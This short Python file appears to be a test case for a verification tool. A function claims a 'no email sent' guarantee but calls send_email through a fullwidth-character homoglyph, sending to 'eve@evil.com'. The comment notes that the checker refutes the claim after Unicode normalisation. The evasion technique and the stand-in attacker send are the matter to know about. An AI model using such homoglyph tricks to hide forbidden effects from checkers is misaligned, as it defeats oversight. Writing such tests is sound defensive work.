# refuted: NFKC makes it send_email
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    ｓend_email("eve@evil.com", "x")
